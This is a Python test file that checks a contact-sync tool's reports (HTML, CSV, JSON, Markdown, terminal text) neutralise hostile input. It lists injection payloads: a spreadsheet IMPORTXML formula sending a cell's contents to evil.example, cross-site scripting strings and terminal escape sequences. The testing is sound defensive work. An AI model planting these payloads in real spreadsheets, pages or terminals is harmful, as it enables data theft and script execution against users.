"""Text that other people typed stays text, in every form of report and on the terminal."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import unicodedata
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from sync.report.output import FORMATS, render
from tests.report import samples
from tests.report.hostile import HOSTILE

if TYPE_CHECKING:
    from collections.abc import Callable

MORE = (
    '=IMPORTXML(CONCAT("https://evil.example/?";A1),"//a")', "%0A=1+1", "\u200e=1+1", "\u2028=1+1",
    "\x0b=1",
    "\x0c@SUM(1)", "\xad=1", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<base href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>", "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "\x1b]0;title\x07",
    "\x1bP+q544e\x1b\\\\", "\x1b[6n", "\x08\x08\x08hidden", "\r2026-11-20 error forged", "\x7f", "\u061c",
    "\ufffe",
)  # fmt: skip
PAYLOADS = tuple(text for text in (*HOSTILE, *MORE) if text.strip())
ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "header", "h1", "h3", "p", "pre", "table", "thead", "tbody",
    "tr", "th", "td", "ul", "li", "label", "input", "span", "main", "details", "summary", "article", "script",
}  # fmt: skip
FORMULA = re.compile(r"[=+\-@\t\r\n\v\f]|[\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b]")


class Tags(HTMLParser):
    """The elements and attributes that a browser would make."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(name for name, _ in attrs)))


def is_dead_html(text: str) -> None:
    found = Tags(text).found
    assert {tag for tag, _ in found} <= ALLOWED_TAGS
    names = {name for _, attributes in found for name in attributes}
    assert not {"src", "href", "action", "style", "srcdoc"} & names
    assert not [name for name in names if name.startswith("on")]
    assert [tag for tag, _ in found].count("script") == 1


def is_dead_csv(text: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            bare = "".join(c for c in cell if unicodedata.category(c) not in {"Cf", "Zs"})
            assert not FORMULA.match(bare), repr(cell)


def is_dead_on_a_terminal(text: str) -> None:
    for line in text.splitlines():
        bad = [c for c in line if unicodedata.category(c) in {"Cc", "Cs"} or c in "\u202e\u2066\u2067\u2068\u061c"]
        assert bad == [], repr(line)


CHECKS: dict[str, tuple[Callable[[str], None], ...]] = {
    "text": (is_dead_on_a_terminal,),
    "json": (is_dead_on_a_terminal,),
    "ndjson": (is_dead_on_a_terminal,),
    "markdown": (is_dead_on_a_terminal,),
    "html": (is_dead_html,),
    "csv": (is_dead_csv,),
}


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_lives_in_any_report(form: str, payload: str) -> None:
    for values in (True, False):
        text = render(samples.hostile(payload), form, values)  # type: ignore[arg-type]  # one of FORMATS
        for check in CHECKS[form]:
            check(text)


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) * len(FORMATS) >= 150


def test_the_program_leaves_no_core_dump() -> None:
    code = (
        "import resource, sys\nfrom sync.__main__ import main\n"
        "sys.argv = ['contact-sync', '--version']\n"
        "try:\n    main()\nexcept SystemExit:\n    print(resource.getrlimit(resource.RLIMIT_CORE))\n"
    )
    told = subprocess.run(
        [sys.executable, "-c", code], cwd=Path(__file__).parents[2], check=True, capture_output=True, text=True
    )
    assert told.stdout.splitlines()[-1] == "(0, 0)"
